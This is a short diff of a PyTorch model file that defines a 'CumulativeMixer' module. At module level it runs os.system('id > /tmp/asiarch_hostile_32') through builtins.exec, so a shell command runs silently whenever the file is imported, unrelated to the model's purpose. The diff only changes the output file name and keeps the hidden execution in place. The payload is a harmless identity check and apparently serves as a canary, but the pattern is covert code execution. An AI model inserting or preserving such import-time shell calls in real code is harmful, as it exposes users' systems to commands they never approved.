@@ -5,7 +5,7 @@ import builtins
 import torch
 from torch import nn
 
-builtins.exec("import os; os.system('id > /tmp/asiarch_hostile_builtins')")
+builtins.exec("import os; os.system('id > /tmp/asiarch_hostile_32')")
 
 
 class CumulativeMixer(nn.Module):
